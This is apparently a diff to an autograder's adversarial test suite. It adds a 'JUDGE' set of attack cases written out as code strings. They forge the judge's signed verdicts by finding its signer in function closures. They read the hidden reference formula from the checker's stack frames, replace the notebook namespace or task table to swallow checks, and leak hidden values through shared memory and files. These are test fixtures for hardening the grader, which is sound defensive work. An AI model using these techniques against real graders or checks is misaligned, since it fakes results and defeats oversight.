@@ -761,6 +761,114 @@ CHECKER = [
     ),
 ]
 
+# Finds whatever signs verdicts in the closures of the kernel's functions, and answers in its place.
+_SIGNS_ITSELF = (
+    "from operator import attrgetter as get\n"
+    "kernel = get('kernel')((lambda f: f())(get_ipython))\n"
+    "todo, seen = [get(n)(kernel) for n in dir(kernel) if n in ('judge', 'observed')], set()\n"
+    "import gc, types\n"
+    "todo += [t for t in gc.get_objects() if isinstance(t, types.FunctionType)\n"
+    "         and t.__qualname__.startswith(('make_judge', 'hide_judge'))]\n"
+    "signers = [t for t in todo if t.__name__ == 'receipt']\n"
+    "while todo:\n    thing = todo.pop()\n    if id(thing) in seen:\n        continue\n"
+    "    seen.add(id(thing))\n    for cell in get('__closure__')(thing) or ():\n"
+    "        inner = cell.cell_contents\n        if isinstance(inner, types.FunctionType):\n"
+    "            todo.append(inner)\n            signers += [inner] * (inner.__name__ == 'receipt')\n"
+    "import sys\nframe = sys._getframe()\nwhile frame:\n"
+    "    for name, value in list(frame.f_locals.items()):\n"
+    "        if name in ('secret', 'message', 'integrity', 'watcher', 'judge', 'data'):\n"
+    "            print('RESULT' if 'secret' in str(value) else '', name)\n    frame = frame.f_back\n"
+    "def own(order):\n    text = '{\"ok\": true}'\n"
+    "    return {'verdict': text, 'receipt': signers[0](order['nonce'], order['source'], text)}\n"
+    "if signers:\n    kernel.judge = own\nprint('searched')"
+)
+# A module beside the notebook that looks for the formula in the frames of the check.
+_LOOKS_ABOVE = (
+    "import sys\ndef alpha_next(alpha, lr, eigenvalue):\n    frame = sys._getframe(1)\n"
+    "    while frame:\n        for value in frame.f_locals.values():\n"
+    "            if callable(value) and getattr(value, '__name__', '') == '<lambda>':\n"
+    "                try:\n                    return value(alpha, lr, eigenvalue)\n"
+    "                except TypeError:\n                    pass\n        frame = frame.f_back\n"
+    "    return 0.0\n"
+)
+JUDGE = [
+    Attack(
+        "signs its own verdicts",
+        cells=(_SIGNS_ITSELF,),
+        answers={"square": WRONG_SQUARE},
+        prints="searched",
+    ),
+    Attack(
+        "signs its own verdicts from a module",
+        "3_checked",
+        cells=("import my_tools",),
+        answers={"ex3-step": WRONG_STEP},
+        files={"my_tools.py": ("from IPython import get_ipython\n" + _SIGNS_ITSELF).encode()},
+    ),
+    Attack(
+        "looks above from a module",
+        "3_checked",
+        answers={"ex3-step": "from above import alpha_next"},
+        files={"above.py": _LOOKS_ABOVE.encode()},
+    ),
+    _checked(
+        "looks above through a thread of the standard library",
+        "from concurrent.futures import ThreadPoolExecutor\nimport sys",
+        "def alpha_next(alpha, lr, eigenvalue):\n"
+        "    with ThreadPoolExecutor(1) as pool:\n"
+        "        frames = pool.submit(sys._current_frames).result()\n"
+        "    for frame in frames.values():\n"
+        "        while frame:\n            for value in frame.f_locals.values():\n"
+        "                if getattr(value, '__name__', '') == '<lambda>':\n"
+        "                    try:\n                        return value(alpha, lr, eigenvalue)\n"
+        "                    except TypeError:\n                        pass\n"
+        "            frame = frame.f_back\n    return 0.0",
+    ),
+    _checked(
+        "blinds the watcher with a path",
+        "import io, sys\nfound = []\nclass Path:\n    def __str__(self):\n"
+        "        found.append(sys._getframe(2))\n        return '/proc'\n"
+        "    def __fspath__(self):\n        return '/proc/none'",
+        "def alpha_next(alpha, lr, eigenvalue):\n    try:\n        io.FileIO(Path())\n"
+        "    except OSError:\n        pass\n    frame = found.pop()\n    while frame:\n"
+        "        for value in frame.f_locals.values():\n"
+        "            if getattr(value, '__name__', '') == '<lambda>':\n"
+        "                return value(alpha, lr, eigenvalue)\n        frame = frame.f_back\n"
+        "    return 0.0",
+    ),
+    _checked(
+        "gives the notebook a dictionary of its own",
+        "class Names(dict):\n    def __getitem__(self, name):\n"
+        "        value = dict.__getitem__(self, name)\n"
+        "        cells = getattr(value, '__closure__', None) or ()\n"
+        "        lists = [c.cell_contents for c in cells if type(c.cell_contents) is list]\n"
+        "        if name != 'check' or not lists:\n            return value\n"
+        "        return lambda grade_id, *args, **kwargs: lists[0].append(grade_id)\n"
+        "shell = get_ipython()\nshell.user_ns = Names(shell.user_ns)",
+    ),
+    _checked(
+        "puts another table of tasks in place",
+        "import dataclasses, autograder.checks.framework as f\nclass Lying(dict):\n"
+        "    def __getitem__(self, name):\n        calls = []\n        def test(answer):\n"
+        "            calls.append(1)\n            if len(calls) > 1:\n"
+        "                raise f.Mistake('no')\n        return dataclasses.replace("
+        "dict.__getitem__(self, name), test=test, known_wrong=lambda names: {})\n"
+        "f.TASKS = Lying(f.TASKS)",
+    ),
+    Attack(
+        "leaks hidden values through shared memory and files",
+        answers={
+            "square": "import mmap, os\nshared = mmap.mmap(-1, 64)\ndef square(x):\n"
+            "    text = f'SECRET {x * x}'.encode()\n    shared[: len(text)] = text\n"
+            "    open('leak', 'wb').write(text)\n    return x * x",
+            "double": "print(bytes(shared), open('leak').read())\n" + DOUBLE,
+        },
+        earns={"square-test": 3, "double-test": 2},
+        prints="SECRET 9",
+        flagged=False,
+    ),
+]
+
 SHOWING = [
     Attack(
         "shows a script",
@@ -786,5 +894,15 @@ SHOWING = [
     ),
 ]
 
-ATTACKS = [*HARM, *NETWORK, *READING, *BREAKING_OUT, *STRUCTURE, *KERNEL, *CHECKER, *SHOWING]
+ATTACKS = [
+    *HARM,
+    *NETWORK,
+    *READING,
+    *BREAKING_OUT,
+    *STRUCTURE,
+    *KERNEL,
+    *CHECKER,
+    *JUDGE,
+    *SHOWING,
+]
 SAFE = SQUARE  # what honest neighbours hand in
